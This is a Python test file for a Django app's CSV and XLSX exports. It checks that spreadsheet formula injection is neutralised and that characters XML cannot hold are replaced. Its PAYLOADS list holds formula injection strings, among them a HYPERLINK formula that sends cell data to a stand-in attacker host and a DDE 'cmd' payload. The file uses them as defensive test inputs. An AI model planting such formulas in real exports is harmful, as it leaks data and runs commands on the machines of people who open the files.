"""Every export, with hostile text in every text column of the database: nothing a spreadsheet would
run as a formula, no character that breaks XLSX (never a 500), numbers still numbers. Parametrised
over the export registry, so a new export is covered as soon as it is registered (give it its
scope parameters in ``PARAMS`` if it needs any: the test fails while it exports no rows)."""

from __future__ import annotations

import csv
import datetime
import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.apps import apps
from django.db import IntegrityError, models, transaction
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from apps.core.text import formula_like
from apps.reports.exports import EXPORTS
from apps.reports.models import ExportJob
from apps.reports.writers import DATE, DATETIME, DECIMAL, INT, TEXT, Column, csv_lines, write_xlsx
from tests.factories import (
    AllocationRoundFactory,
    ApplicationFactory,
    OrganizationFactory,
    OrgRoleFactory,
    PoolPeriodFactory,
    QuotaGrantFactory,
    UsageRecordFactory,
)

pytestmark = pytest.mark.django_db

# What people have typed into names and titles to attack whoever opens an export.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u3000=1+1",
    "\uff1d1+1",  # full-width equals sign
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "-5",
]
CONTROL = "\x1b\x0b"  # characters XML cannot hold: they made a streamed XLSX export answer 500
NUMERIC = re.compile(r"-?\d+(\.\d+)?")
XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def _hostile(index: int, tag: str, max_length: int | None) -> str:
    payload = PAYLOADS[index % len(PAYLOADS)]
    value = f"{payload}{CONTROL}{tag}"
    if max_length is not None and len(value) > max_length:
        value = payload[: max(1, max_length - len(tag))] + tag
        value = value[:max_length]
    return value


def _text_fields(model) -> list[models.Field]:
    return [
        f
        for f in model._meta.concrete_fields
        if isinstance(f, models.CharField | models.TextField)
        and not isinstance(f, models.SlugField)  # the exports' scope parameters are slugs
        and not f.choices  # shown through their translated labels
        and not f.primary_key
    ]


def poison_every_text_column() -> int:
    """Write a hostile value into every free-text column of every row of the project's models
    (the audit log is append-only: its rows get hostile text from the objects they name)."""
    changed = rotation = 0
    for model in apps.get_models():
        if not model.__module__.startswith("apps.") or model._meta.app_label == "governance":
            continue
        fields = _text_fields(model)
        if not fields:
            continue
        for pk in model.objects.values_list("pk", flat=True):
            for field in fields:
                rotation += 1  # each column sees several payloads across its rows
                value = _hostile(rotation, f"{pk}", field.max_length)
                try:
                    with transaction.atomic():
                        model.objects.filter(pk=pk).update(**{field.attname: value})
                    changed += 1
                except IntegrityError:  # a unique or check constraint: leave that column alone
                    pass
    return changed


@pytest.fixture
def world(staff):
    """One row (or more) for every export, then hostile text in every text column."""
    from apps.allocations import services as rounds
    from apps.governance.services import audit_record
    from apps.providers.models import GrantDrift
    from tests.grants.factories import ApplicationFactory as ProgramApplicationFactory
    from tests.workinggroups.factories import WorkingGroupFactory

    period = PoolPeriodFactory(pool__code="tokyo-h200", capacity_gpu_hours="1000.00")
    org = OrganizationFactory(slug="kyoto-u")
    grant = QuotaGrantFactory(organization=org, period=period, gpu_hours="100.00", state="active")
    start = timezone.make_aware(datetime.datetime(2026, 5, 10, 9))
    UsageRecordFactory(grant=grant, started_at=start, ended_at=start + datetime.timedelta(hours=1))
    GrantDrift.objects.create(
        grant=grant, grant_public_id=str(grant.public_id), provider=grant.pool.provider, kind="missing"
    )
    allocation_round = AllocationRoundFactory()
    rounds.request_submit(
        round_id=allocation_round.pk,
        organization=org,
        gpu_class="H200",
        demand_gpu_hours=80,
        justification="x",
        actor=OrgRoleFactory(organization=org, role="owner").user,
    )
    rounds.round_close(round_id=allocation_round.pk, actor=staff)
    rounds.round_compute(round_id=allocation_round.pk, actor=staff)
    ApplicationFactory(status="submitted")
    program_application = ProgramApplicationFactory(status="submitted")
    WorkingGroupFactory(visibility="public")

    assert poison_every_text_column() > 50
    staff.refresh_from_db()
    org.refresh_from_db()
    audit_record(actor=staff, action="organization.updated", target=org)  # hostile actor and target
    return {
        "org": org.slug,
        "provider": grant.pool.provider.slug,
        "round": allocation_round.pk,
        "call": program_application.call_id,
        "period": "FY2026",
    }


# The scope an export needs (an organization, a provider, a round, a call, a period).
PARAMS = {
    "org-grants": ("org",),
    "provider-grants": ("provider",),
    "round-results": ("round",),
    "statement": ("org", "period"),
    "settlement": ("period",),
    "call-ranking": ("call",),
    "usage-months": ("org",),
}


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _download(client, name, fmt, params, *, background: bool, settings, capture) -> bytes:
    url = reverse("reports:export", args=[name, fmt])
    if not background:
        response = client.get(url, params)
        assert response.status_code == 200, (name, fmt)
        return _body(response)
    settings.EXPORT_STREAM_MAX_ROWS = 0
    with capture(execute=True):
        response = client.get(url, params)
    assert response.status_code == 302, (name, fmt)
    job = ExportJob.objects.filter(export=name, format=fmt).latest("created_at")
    assert job.status == "done", job.error
    settings.EXPORT_STREAM_MAX_ROWS = 5000
    download = client.get(reverse("reports:export-download", args=[job.public_id]))
    assert download.status_code == 200
    return _body(download)


def assert_safe_csv(body: bytes, columns: list[Column]) -> int:
    """No formula-like text cell; returns how many cells were neutralised (``'`` first)."""
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert len(rows) >= 2, "the export has rows"
    neutralised = 0
    for row in rows:
        assert len(row) == len(columns)
        for column, cell in zip(columns, row, strict=True):
            assert not XML_ILLEGAL.search(cell), (column.key, cell)
            if column.kind in (INT, DECIMAL) and NUMERIC.fullmatch(cell):
                continue  # a number, a negative one too
            assert not formula_like(cell), (column.key, cell)
            if cell.startswith("'") and formula_like(cell[1:]):
                neutralised += 1
    return neutralised


def assert_safe_xlsx(body: bytes, columns: list[Column]) -> int:
    """No formula cell at all; formula-like text is a string cell marked as text (quotePrefix)."""
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        for sheet_name in sheets:
            assert b"<f>" not in archive.read(sheet_name) and b"<f " not in archive.read(sheet_name)
    sheet = load_workbook(io.BytesIO(body)).active
    rows = list(sheet.iter_rows())
    assert len(rows) >= 2, "the export has rows"
    neutralised = 0
    for row in rows:
        for column, cell in zip(columns, row, strict=False):
            assert cell.data_type != "f", (column.key, cell.value)
            value = cell.value
            if isinstance(value, str):
                assert cell.data_type in ("s", "inlineStr"), (column.key, value)
                assert not XML_ILLEGAL.search(value)
                if formula_like(value):
                    assert cell.quotePrefix, (column.key, value)
                    neutralised += 1
            elif column.kind == TEXT:
                assert value is None or isinstance(value, int | float | Decimal), (column.key, value)
    return neutralised


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_every_export_neutralises_hostile_text(
    name, world, staff_client, settings, django_capture_on_commit_callbacks
):
    export = EXPORTS[name]
    params = {key: world[key] for key in PARAMS.get(name, ())}
    clients = [staff_client] + ([Client()] if export.public else [])
    for client in clients:
        for background in (False, True):
            if background and client is not staff_client:
                continue  # visitors' exports always stream
            args = {
                "background": background,
                "settings": settings,
                "capture": django_capture_on_commit_callbacks,
            }
            csv_body = _download(client, name, "csv", params, **args)
            assert assert_safe_csv(csv_body, export.columns) >= 1, "hostile text reached the export"
            xlsx_body = _download(client, name, "xlsx", params, **args)
            assert assert_safe_xlsx(xlsx_body, export.columns) >= 1, "hostile text reached the export"


def test_a_control_character_in_an_organizations_name_does_not_break_the_public_directory():
    # (PostgreSQL refuses NUL itself; what it stores, the XLSX writer must survive)
    OrganizationFactory(name_ja="株式会社\x1bテスト\x0c", name_en="Test\x0b KK")
    for fmt in ("csv", "xlsx"):
        response = Client().get(reverse("reports:export", args=["members", fmt]))
        assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(_body(response))).active
    assert sheet.cell(row=2, column=1).value == "株式会社\ufffdテスト\ufffd"


# --- the writers themselves -------------------------------------------------------------------------

COLUMNS = [
    Column("text", "Text", lambda r: r[0]),
    Column("amount", "Amount", lambda r: r[1], DECIMAL),
    Column("count", "Count", lambda r: r[2], INT),
    Column("day", "Day", lambda r: r[3], DATE),
    Column("at", "At", lambda r: r[4], DATETIME),
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_writers_neutralise_formula_like_text_and_keep_numbers(payload, tmp_path):
    at = timezone.make_aware(datetime.datetime(2026, 5, 1, 12, 30))
    rows = [(payload, Decimal("-5.50"), -3, datetime.date(2026, 5, 1), at), ("ok", None, None, None, None)]
    lines = list(csv.reader(io.StringIO("".join(csv_lines(COLUMNS, rows))[1:])))
    assert lines[1] == ["'" + payload, "-5.50", "-3", "2026-05-01", "2026-05-01 12:30:00"]
    assert lines[2] == ["ok", "", "", "", ""]

    path = tmp_path / "x.xlsx"
    write_xlsx(path, COLUMNS, rows, title="x")
    sheet = load_workbook(path).active
    text, amount, count, day, moment = sheet[2]
    assert (text.value, text.data_type, text.quotePrefix) == (payload, "s", True)
    assert (amount.value, amount.data_type, count.value, count.data_type) == (-5.5, "n", -3, "n")
    assert day.is_date and moment.is_date
    assert (sheet["A3"].value, sheet["A3"].quotePrefix) == ("ok", False)


def test_a_number_in_a_text_column_stays_a_number_and_a_string_in_a_number_column_is_text(tmp_path):
    rows = [(-7, "=1+1", "-1", "=2", "@x")]
    lines = list(csv.reader(io.StringIO("".join(csv_lines(COLUMNS, rows))[1:])))
    assert lines[1] == ["-7", "'=1+1", "'-1", "'=2", "'@x"]
    path = tmp_path / "x.xlsx"
    write_xlsx(path, COLUMNS, rows, title="x")
    cells = load_workbook(path).active[2]
    assert (cells[0].value, cells[0].data_type) == (-7, "n")
    assert all(c.data_type == "s" and c.quotePrefix for c in cells[1:])


def test_characters_xml_cannot_hold_are_replaced_in_both_formats(tmp_path):
    rows = [("a\x00b\x1fc\ufffed\ud800e\tf\ng", None, None, None, None)]
    lines = list(csv.reader(io.StringIO("".join(csv_lines(COLUMNS, rows))[1:])))
    assert lines[1][0] == "a\ufffdb\ufffdc\ufffdd\ufffde\tf\ng"
    path = tmp_path / "x.xlsx"
    write_xlsx(path, COLUMNS, rows, title="x")
    assert load_workbook(path).active["A2"].value == "a\ufffdb\ufffdc\ufffdd\ufffde\tf\ng"


def test_export_file_names_keep_only_plain_characters_of_the_query_string(staff_client):
    from apps.reports import services

    name = services.export_file_name(EXPORTS["round-results"], {"round": '7\r\n"x'}, "csv")
    assert name.startswith("round-results-round-7x-") and name.endswith(".csv")


# --- any text at all ----------------------------------------------------------------------------------

ANY_CHARACTER = st.characters(exclude_categories=())  # surrogates and controls included


@hypothesis_settings(max_examples=150, deadline=None)
@given(st.lists(st.text(alphabet=ANY_CHARACTER, max_size=12), min_size=1, max_size=8))
def test_any_text_gives_a_safe_csv_and_a_safe_xlsx(texts):
    columns = [Column(f"c{i}", f"c{i}", lambda r, i=i: r[i]) for i in range(len(texts))]
    lines = "".join(csv_lines(columns, [texts]))
    lines.encode("utf-8")  # no lone surrogate left: the stream can be sent
    cells = list(csv.reader(io.StringIO(lines[1:])))[1]
    for cell in cells:
        assert not formula_like(cell) and not XML_ILLEGAL.search(cell)
    handle = io.BytesIO()
    write_xlsx(handle, columns, [texts], title="x")
    assert_safe_xlsx(handle.getvalue(), columns)


@given(st.text(alphabet=ANY_CHARACTER, max_size=30))
def test_text_the_forms_accept_is_written_unchanged_into_xlsx(text):
    from apps.core.text import forbidden_character, sanitize_cell_text

    if forbidden_character(text, multiline=True) is None:
        assert sanitize_cell_text(text) == text
